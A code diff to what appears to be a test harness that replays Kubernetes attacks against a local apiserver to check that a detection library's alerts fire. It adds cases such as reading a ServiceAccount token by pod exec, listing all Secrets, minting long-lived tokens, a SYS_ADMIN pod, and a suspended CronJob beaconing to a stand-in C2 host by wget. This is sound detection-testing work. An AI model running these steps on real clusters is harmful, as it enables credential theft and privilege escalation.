@@ -30,6 +30,7 @@ operator installed from manifests/ and running as its own ServiceAccount):
 from __future__ import annotations
 
 import argparse
+import base64
 import http.client
 import json
 import random
@@ -50,6 +51,10 @@ from typing import Any
 ROOT = Path(__file__).resolve().parent.parent
 sys.path[:0] = [str(ROOT), str(ROOT / "operator")]
 
+from cryptography import x509  # noqa: E402
+from cryptography.hazmat.primitives import hashes, serialization  # noqa: E402
+from cryptography.hazmat.primitives.asymmetric import ec  # noqa: E402
+from cryptography.x509.oid import NameOID  # noqa: E402
 from tests.fake_kubelet import FakeKubelet  # noqa: E402
 from tests.realcluster import (  # noqa: E402
     OPERATOR_NAMESPACE,
@@ -394,6 +399,16 @@ class Simulation:
     threads: list[threading.Thread] = field(default_factory=list)
     sockets: list[socket.socket] = field(default_factory=list)
     errors: list[str] = field(default_factory=list)
+    apis: list[Api] = field(init=False)
+    """Each add-on's client. Its token is minted here, before the steady state: a TokenRequest
+    by the admin is the harness's set-up (k8s-serviceaccount-token-requested would report it),
+    not the add-ons' traffic; a pod gets its token from its kubelet."""
+
+    def __post_init__(self) -> None:
+        self.apis = [
+            Api(self.cluster, self.cluster.token(addon.namespace, addon.service_account))
+            for addon in ADDONS
+        ]
 
     def _thread(self, name: str, target: Callable[[], None]) -> None:
         def guarded() -> None:
@@ -408,8 +423,7 @@ class Simulation:
         self.threads.append(thread)
 
     def start(self) -> None:
-        for addon in ADDONS:
-            api = Api(self.cluster, self.cluster.token(addon.namespace, addon.service_account))
+        for addon, api in zip(ADDONS, self.apis, strict=True):
             for path in addon.watches:
                 self._thread(
                     f"{addon.service_account} {path}",
@@ -583,10 +597,10 @@ def settle() -> None:
 def run_benign(cluster: Cluster, seconds: float) -> Report:
     """Install, then `seconds` of steady state; the report of what the library did."""
     install(cluster)
+    simulation = Simulation(cluster)
     settle()
     before = library_alerts(cluster)
     since = datetime.now(UTC)
-    simulation = Simulation(cluster)
     simulation.start()
     time.sleep(seconds)
     simulation.finish()
@@ -621,6 +635,100 @@ def pod(name: str, spec_field: str = "", security: str = "", volumes: str = "") 
     )
 
 
+EXEC_CREATE_ONLY_ROLE = """
+apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata: {name: exec-create, namespace: shop}
+rules:
+  - {apiGroups: [""], resources: [pods], verbs: [get]}
+  - {apiGroups: [""], resources: [pods/exec], verbs: [create]}
+"""
+
+
+WEBHOOK = """
+apiVersion: admissionregistration.k8s.io/v1
+kind: ValidatingWebhookConfiguration
+metadata: {name: audit-helper}
+webhooks:
+  - name: audit-helper.example.com
+    clientConfig: {url: "https://hooks.example.invalid/validate"}
+    rules:
+      - operations: [CREATE]
+        apiGroups: [example.invalid]
+        apiVersions: [v1]
+        resources: [widgets]
+    sideEffects: None
+    admissionReviewVersions: [v1]
+    failurePolicy: Ignore
+"""
+"""A webhook on a resource that does not exist: registering it changes nothing else here."""
+
+CRONJOB = """
+apiVersion: batch/v1beta1
+kind: CronJob
+metadata: {name: beacon, namespace: shop}
+spec:
+  schedule: "0 0 1 1 *"
+  suspend: true
+  jobTemplate:
+    spec:
+      template:
+        spec:
+          restartPolicy: Never
+          containers: [{name: beacon, image: busybox, command: [wget, "http://c2.example.invalid"]}]
+"""
+"""batch/v1beta1: the API version of the 1.20 apiserver; suspended, so it never runs."""
+
+DAEMONSET = """
+apiVersion: apps/v1
+kind: DaemonSet
+metadata: {name: node-miner, namespace: shop}
+spec:
+  selector: {matchLabels: {app: node-miner}}
+  template:
+    metadata: {labels: {app: node-miner}}
+    spec:
+      nodeSelector: {auditwatch.example/none: "true"}
+      containers: [{name: miner, image: busybox, command: [sleep, "3600"]}]
+"""
+"""No node matches its selector: the DaemonSet is created, no pod is."""
+
+
+TOKEN_SECRET = """
+apiVersion: v1
+kind: Secret
+metadata:
+  name: default-forever
+  namespace: payments
+  annotations: {kubernetes.io/service-account.name: default}
+type: kubernetes.io/service-account-token
+"""
+"""The token controller fills it with a token that never expires."""
+
+
+def client_certificate_request(user: str) -> str:
+    """A CertificateSigningRequest for a client certificate of the apiserver, as `user`."""
+    key = ec.generate_private_key(ec.SECP256R1())
+    request = (
+        x509.CertificateSigningRequestBuilder()
+        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, user)]))
+        .sign(key, hashes.SHA256())
+    )
+    pem = request.public_bytes(serialization.Encoding.PEM)
+    return json.dumps(
+        {
+            "apiVersion": "certificates.k8s.io/v1",
+            "kind": "CertificateSigningRequest",
+            "metadata": {"name": f"{user}-client"},
+            "spec": {
+                "request": base64.b64encode(pem).decode(),
+                "signerName": "kubernetes.io/kube-apiserver-client",
+                "usages": ["client auth"],
+            },
+        }
+    )
+
+
 def attacks(cluster: Cluster) -> list[tuple[str, Callable[[], object]]]:
     """Each attack the library is meant to catch, as a real call against the apiserver: who
     does it (the attacker `mallory`, a compromised ServiceAccount, anonymous, or the admin for
@@ -650,6 +758,34 @@ def attacks(cluster: Cluster) -> list[tuple[str, Callable[[], object]]]:
         for resource in ("secrets", "pods", "roles", "deployments", "configmaps", "nodes"):
             cluster.kubectl("get", resource, "-n", "kube-system", token=token, check=False)
 
+    def exec_allowed_create_only() -> None:
+        """A compromised ServiceAccount whose Role grants `create` on pods/exec, as older
+        guides write it: kubectl >= 1.30's WebSocket `get` is refused (403), and it opens the
+        session again with an SPDY `create` (101)."""
+        admin("create", "serviceaccount", "web-ops", "-n", "shop")
+        cluster.apply(EXEC_CREATE_ONLY_ROLE)
+        admin(
+            "create",
+            "rolebinding",
+            "exec-create",
+            "-n",
+            "shop",
+            "--role=exec-create",
+            "--serviceaccount=shop:web-ops",
+        )
+        token = cluster.token("shop", "web-ops")
+        cluster.kubectl(
+            "exec",
+            "-n",
+            "shop",
+            NODE_POD,
+            "--",
+            "cat",
+            "/var/run/secrets/kubernetes.io/serviceaccount/token",
+            token=token,
+            check=False,
+        )
+
     def port_forward() -> None:
         """kubectl port-forward gives up on a pod that is not running (no kubelet here), so
         the request it would make, as the apiserver sees it."""
@@ -674,6 +810,11 @@ def attacks(cluster: Cluster) -> list[tuple[str, Callable[[], object]]]:
         connection.request("GET", "/api/v1/namespaces/shop/pods")
         connection.getresponse().read()
 
+    def copy_out() -> None:
+        """kubectl cp from the pod: an exec of `tar cf - /etc/hostname`."""
+        target = cluster.root / "copied-hostname"
+        mallory("cp", f"shop/{NODE_POD}:/etc/hostname", str(target))
+
     return [
         (
             "mallory gets cluster-admin",
@@ -688,11 +829,9 @@ def attacks(cluster: Cluster) -> list[tuple[str, Callable[[], object]]]:
         ("a compromised ServiceAccount reads a Secret", compromised_sa_reads_secrets),
         ("a ServiceAccount probes what it may do", probing_sa),
         ("anonymous access granted and used", anonymous_access),
-        (
-            "exec into a pod",
-            lambda: mallory("exec", "-n", "shop", NODE_POD, "--", "cat", "/etc/passwd"),
-        ),
+        ("exec into a pod (WebSocket refused, then SPDY)", exec_allowed_create_only),
         ("attach to a pod", lambda: mallory("attach", "-n", "shop", NODE_POD)),
+        ("kubectl cp out of a pod", copy_out),
         ("port-forward to a pod", port_forward),
         (
             "privileged pod",
@@ -744,6 +883,49 @@ def attacks(cluster: Cluster) -> list[tuple[str, Callable[[], object]]]:
             "Role that may exec",
             lambda: mallory(
                 "create", "role", "exec", "-n", "shop", "--verb=create", "--resource=pods/exec"
+            ),
+        ),
+        (
+            "ClusterRole granting nodes/proxy",
+            lambda: mallory(
+                "create", "clusterrole", "node-proxy", "--verb=get", "--resource=nodes/proxy"
+            ),
+        ),
+        (
+            "admission webhook registered, then removed",
+            lambda: (
+                mallory("apply", "-f", "-", input=WEBHOOK),
+                mallory("delete", "validatingwebhookconfiguration", "audit-helper"),
+            ),
+        ),
+        (
+            "client certificate requested",
+            lambda: mallory("apply", "-f", "-", input=client_certificate_request("mallory")),
+        ),
+        ("Secrets of every namespace listed", lambda: mallory("get", "secrets", "-A")),
+        (
+            "Secret names guessed",
+            lambda: mallory("get", "secret", "stripe-live-key", "-n", "payments"),
+        ),
+        (
+            "long-lived token Secret created",
+            lambda: mallory("apply", "-f", "-", input=TOKEN_SECRET),
+        ),
+        (
+            "token minted for a ServiceAccount",
+            lambda: mallory("create", "token", "default", "-n", "payments"),
+        ),
+        ("CronJob created", lambda: mallory("apply", "-f", "-", input=CRONJOB)),
+        ("DaemonSet created", lambda: mallory("apply", "-f", "-", input=DAEMONSET)),
+        (
+            "pod adding SYS_ADMIN",
+            lambda: mallory(
+                "apply",
+                "-f",
+                "-",
+                input=pod(
+                    "capadmin", security="securityContext: {capabilities: {add: [SYS_ADMIN]}}"
+                ),
             ),
         ),
         (
@@ -813,6 +995,8 @@ class AttackReport:
     missed: list[str]
     table: str
     new_matches: dict[str, int]
+    since: datetime
+    until: datetime
 
 
 NODE_POD = "web-on-node-1"
@@ -823,6 +1007,7 @@ apiserver opens the session (101) as on a cluster with nodes."""
 def run_attacks(cluster: Cluster) -> AttackReport:
     """Every attack of `attacks`, then which detections did not match or are not Firing."""
     before = library_alerts(cluster)
+    since = datetime.now(UTC)
     with FakeKubelet(cluster.root / "kubelet.crt", cluster.root / "kubelet.key") as kubelet:
         cluster.apply(json.dumps(kubelet.node("node-1")))
         cluster.apply(
@@ -843,6 +1028,7 @@ def run_attacks(cluster: Cluster) -> AttackReport:
             print(f"attack: {what}", file=sys.stderr)
             action()
     settle()
+    until = datetime.now(UTC)
     after = library_alerts(cluster)
     rows, missed, new_matches = [], [], {}
     for name, resource in sorted(after.items()):
@@ -856,7 +1042,7 @@ def run_attacks(cluster: Cluster) -> AttackReport:
             missed.append(name)
         rows.append(f"{name:42} {delta:5}  {state}")
     header = f"{'alert':42} {'new matches':>5}  state"
-    return AttackReport(missed, "\n".join([header, *rows]), new_matches)
+    return AttackReport(missed, "\n".join([header, *rows]), new_matches, since, until)
 
 
 def main() -> int:
